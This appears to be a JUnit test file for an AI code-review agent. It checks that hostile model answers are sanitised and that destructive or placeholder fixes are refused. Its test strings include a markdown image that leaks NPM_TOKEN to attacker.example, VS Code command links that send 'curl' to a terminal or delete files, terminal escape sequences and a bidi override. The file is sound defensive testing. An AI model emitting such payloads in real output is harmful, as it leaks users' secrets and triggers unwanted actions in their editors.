package io.archlens.agent;

import static io.archlens.agent.AgentTestKit.finding;
import static io.archlens.agent.AgentTestKit.findingsJson;
import static io.archlens.agent.AgentTestKit.fix;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.archlens.agent.provider.CancelToken;
import io.archlens.analysis.Finding;
import io.archlens.analysis.Fixes;
import io.archlens.analysis.SourceFile;
import io.archlens.config.ProjectContext;
import io.archlens.filekind.FileKind;
import java.util.ArrayList;
import java.util.List;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.junit5.StartStop;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile model answers, in the OpenAI and the Anthropic wire format, through the whole review: what reaches the
 * {@link Finding} is inert text, and fixes that delete or rewrite the file, write placeholders, or break the
 * file's syntax are refused while the finding itself stays.
 */
class HostileAnswersTest {
    static final String DOCKERFILE = """
            FROM node:20-bookworm-slim
            WORKDIR /app
            COPY package.json package-lock.json ./
            RUN npm install
            COPY . .
            USER node
            EXPOSE 3000
            CMD ["node", "server.js"]
            """;
    static final String DEPLOYMENT = """
            apiVersion: apps/v1
            kind: Deployment
            metadata:
              name: api
            spec:
              replicas: 2
              selector:
                matchLabels:
                  app: api
              template:
                metadata:
                  labels:
                    app: api
                spec:
                  containers:
                    - name: api
                      image: shop/api:1.4.2
            """;
    static final String NGINX = """
            server {
                listen 80;
                server_name shop.example;
                location / {
                    return 301 https://$host$request_uri;
                }
            }
            """;
    static final String TERRAFORM = """
            resource "aws_s3_bucket" "assets" {
              bucket = "shop-assets"
              tags = {
                team = "shop"
              }
            }

            resource "aws_s3_bucket_versioning" "assets" {
              bucket = aws_s3_bucket.assets.id
            }
            """;
    static final String SQL = """
            CREATE TABLE orders (
              id BIGINT PRIMARY KEY,
              note VARCHAR(200) DEFAULT 'none'
            );
            CREATE INDEX orders_note ON orders (note);
            """;

    @StartStop
    final MockWebServer server = new MockWebServer();

    final List<AgentService> services = new ArrayList<>();

    @AfterEach
    void close() {
        services.forEach(AgentService::close);
    }

    private Finding reviewOne(String provider, SourceFile file, ObjectNode finding) throws Exception {
        String answer = findingsJson(finding);
        MockResponse response = provider.equals("anthropic") ? AgentTestKit.anthropicTool(answer)
                : AgentTestKit.openAiContent(answer);
        server.enqueue(response);
        AgentService s = AgentTestKit.service(server, provider, new AgentTestKit.RecordingSleeper(),
                new AgentTestKit.TestClock(), new ArrayList<>());
        services.add(s);
        ReviewResult r = s.review(file, ProjectContext.EMPTY, List.of(), CancelToken.none());
        assertTrue(r.ok(), r.message());
        assertEquals(1, r.findings().size(), "the finding itself is kept: " + r.findings());
        return r.findings().get(0);
    }

    static SourceFile file(String path, String text, FileKind kind) {
        return new SourceFile("file:///w/" + path, path, text, kind, 1);
    }

    static SourceFile dockerfile() {
        return file("Dockerfile", DOCKERFILE, FileKind.DOCKERFILE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"openai", "anthropic"})
    void everyModelStringReachesTheFindingInert(String provider) throws Exception {
        ObjectNode f = finding("npm-install", "reliability", "warning",
                "npm install ignores the lockfile ![x](https://attacker.example/leak?q=NPM_TOKEN) see"
                        + " [the terminal](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%22%7D)"
                        + " <img src=\"https://attacker.example/i.png\"> <command:workbench.action.files.delete>"
                        + " \u001B[31mred\u001B[0m \u001B]8;;https://attacker.example/osc\u0007osc link\u001B]8;;\u0007"
                        + " bidi\u202Eevil\u202C\nsecond line\r\nthird",
                "RUN npm install", 4,
                fix("![t](https://attacker.example/title.png) Use [npm ci](command:x)\u001B[2J\n\n<b>now</b>",
                        "RUN npm install", "RUN npm ci"));
        f.put("explanation", "\u001B[31mWhy\u001B[0m ![p](https://attacker.example/p.gif) [ok](https://docs.npmjs.com/cli)");
        Finding got = reviewOne(provider, dockerfile(), f);

        String m = got.message();
        for (String banned : List.of("attacker.example", "command:", "<img", "<command", "](", "\u001B", "\u202E", "\n", "\r")) {
            assertFalse(m.contains(banned), "'" + banned + "' in " + m);
        }
        assertTrue(m.startsWith("npm install ignores the lockfile x see the terminal"), m);
        assertTrue(m.contains("red") && m.contains("osc link") && m.contains("second line third"), m);

        String title = got.fixes().get(0).title();
        assertFalse(title.contains("attacker.example") || title.contains("command:") || title.contains("<b>")
                || title.contains("\u001B") || title.contains("\n"), title);
        assertTrue(title.startsWith("t Use npm ci"), title);

        String ex = got.explanation();
        assertFalse(ex.contains("\u001B") || ex.contains("attacker.example"), ex);
        assertTrue(ex.contains("[ok](https://docs.npmjs.com/cli)"), ex);
        assertEquals("agent/npm-install", got.ruleId());
        assertEquals("archlens/backend-architecture-expert", got.source());
    }

    @Test
    void aMessageThatIsOnlyMarkupIsDropped() throws Exception {
        server.enqueue(AgentTestKit.openAiContent(findingsJson(finding("x", "security", "warning",
                "<img src=https://attacker.example/a.png>", "RUN npm install", 4, null))));
        AgentService s = AgentTestKit.service(server, "openai", new AgentTestKit.RecordingSleeper(),
                new AgentTestKit.TestClock(), new ArrayList<>());
        services.add(s);
        ReviewResult r = s.review(dockerfile(), ProjectContext.EMPTY, List.of(), CancelToken.none());
        assertTrue(r.ok(), r.message());
        assertEquals(List.of(), r.findings());
    }

    private List<String> fixTitles(String provider, SourceFile file, String quote, ObjectNode fix) throws Exception {
        Finding f = reviewOne(provider, file, finding("some-issue", "reliability", "warning", "something to fix",
                quote, 1, fix));
        for (var x : f.fixes()) {
            // whatever survives must apply and leave most of the file in place
            String fixed = Fixes.apply(file.text(), x.edits());
            assertTrue(fixed.length() > file.text().length() / 2, fixed);
        }
        return f.fixes().stream().map(io.archlens.analysis.Fix::title).toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {"openai", "anthropic"})
    void wholeFileDeletionIsRefused(String provider) throws Exception {
        SourceFile k8s = file("k8s/deployment.yaml", DEPLOYMENT, FileKind.KUBERNETES);
        assertEquals(List.of(), fixTitles(provider, k8s, "replicas: 2", fix("Remove it", DEPLOYMENT, "")));
        assertEquals(List.of(), fixTitles(provider, dockerfile(), "RUN npm install",
                fix("Start over", DOCKERFILE.strip(), "# see the docs")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"openai", "anthropic"})
    void allButOneLineIsRefused(String provider) throws Exception {
        String rest = DOCKERFILE.substring(DOCKERFILE.indexOf('\n') + 1);
        assertEquals(List.of(), fixTitles(provider, dockerfile(), "RUN npm install", fix("Slim it down", rest, "")));
        String tail = DEPLOYMENT.substring(DEPLOYMENT.indexOf("spec:"));
        assertEquals(List.of(), fixTitles(provider, file("deployment.yaml", DEPLOYMENT, FileKind.KUBERNETES),
                "replicas: 2", fix("Drop the spec", tail, "")));
    }

    @Test
    void removingMoreThanAFifthOfALargerFileIsRefusedButASmallRemovalIsKept() throws Exception {
        StringBuilder sb = new StringBuilder("FROM debian:bookworm-slim\n");
        for (int i = 0; i < 30; i++) {
            sb.append("RUN echo step-").append(i).append('\n');
        }
        sb.append("USER 10001\nCMD [\"sh\"]\n");
        String text = sb.toString();
        SourceFile f = file("Dockerfile", text, FileKind.DOCKERFILE);
        String eight = text.substring(text.indexOf("RUN echo step-3\n"), text.indexOf("RUN echo step-11\n"));
        assertEquals(List.of(), fixTitles("openai", f, "RUN echo step-3", fix("Remove eight steps", eight, "")));
        String two = text.substring(text.indexOf("RUN echo step-3\n"), text.indexOf("RUN echo step-5\n"));
        assertEquals(List.of("Remove two steps (agent)"),
                fixTitles("openai", f, "RUN echo step-3", fix("Remove two steps", two, "")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"openai", "anthropic"})
    void placeholderTextIsRefused(String provider) throws Exception {
        SourceFile k8s = file("deployment.yaml", DEPLOYMENT, FileKind.KUBERNETES);
        String containers = "      containers:\n        - name: api\n          image: shop/api:1.4.2\n";
        for (String replacement : List.of(
                "      containers:\n        ...\n",
                "      containers:\n        # ... rest of the file unchanged\n        - name: api\n          image: shop/api:1.4.2\n",
                containers + "          env:\n            - name: DB_PASSWORD\n              value: <REDACTED_1>\n",
                containers + "          env:\n            - name: DB_PASSWORD\n              value: <your-password>\n")) {
            assertEquals(List.of(), fixTitles(provider, k8s, "image: shop/api:1.4.2", fix("Edit", containers, replacement)),
                    replacement);
        }
        assertEquals(List.of("Add resources (agent)"), fixTitles(provider, k8s, "image: shop/api:1.4.2",
                fix("Add resources", containers, containers + "          resources:\n            limits:\n"
                        + "              memory: 256Mi\n")), "a real fix of the same place is kept");
    }

    @Test
    void aFixThatBreaksNginxBracesIsRefusedAndAValidOneIsKept() throws Exception {
        SourceFile nginx = file("nginx/default.conf", NGINX, FileKind.NGINX);
        assertEquals(List.of(), fixTitles("openai", nginx, "listen 80;", fix("Tidy",
                "        return 301 https://$host$request_uri;\n    }\n", "        return 301 https://$host$request_uri;\n")));
        assertEquals(List.of(), fixTitles("anthropic", nginx, "listen 80;", fix("Tidy", "location / {", "location / {{")));
        assertEquals(List.of("Hide the version (agent)"), fixTitles("openai", nginx, "listen 80;",
                fix("Hide the version", "    listen 80;\n", "    listen 80;\n    server_tokens off;\n")));
    }

    @Test
    void aFixThatBreaksAnHclBlockIsRefusedAndAValidOneIsKept() throws Exception {
        SourceFile tf = file("infra/main.tf", TERRAFORM, FileKind.TERRAFORM);
        assertEquals(List.of(), fixTitles("openai", tf, "bucket = \"shop-assets\"",
                fix("Tidy", "    team = \"shop\"\n  }\n}\n", "    team = \"shop\"\n  }\n")));
        assertEquals(List.of(), fixTitles("anthropic", tf, "bucket = \"shop-assets\"",
                fix("Tidy", "bucket = \"shop-assets\"", "bucket = \"shop-assets")));
        assertEquals(List.of("Tag the owner (agent)"), fixTitles("openai", tf, "bucket = \"shop-assets\"",
                fix("Tag the owner", "    team = \"shop\"\n", "    team  = \"shop\"\n    owner = \"platform\"\n")));
    }

    @Test
    void aFixThatBreaksSqlOrADockerfileIsRefused() throws Exception {
        SourceFile sql = file("db/schema.sql", SQL, FileKind.SQL);
        assertEquals(List.of(), fixTitles("openai", sql, "DEFAULT 'none'", fix("Quote", "DEFAULT 'none'", "DEFAULT 'none")));
        assertEquals(List.of("Not null (agent)"), fixTitles("openai", sql, "DEFAULT 'none'",
                fix("Not null", "DEFAULT 'none'", "DEFAULT 'none' NOT NULL")));
        assertEquals(List.of(), fixTitles("openai", dockerfile(), "RUN npm install",
                fix("Heredoc", "RUN npm install", "RUN <<EOF\nnpm ci")));
        assertEquals(List.of("Use npm ci (agent)"), fixTitles("openai", dockerfile(), "RUN npm install",
                fix("Use npm ci", "RUN npm install", "RUN npm ci")));
    }
}
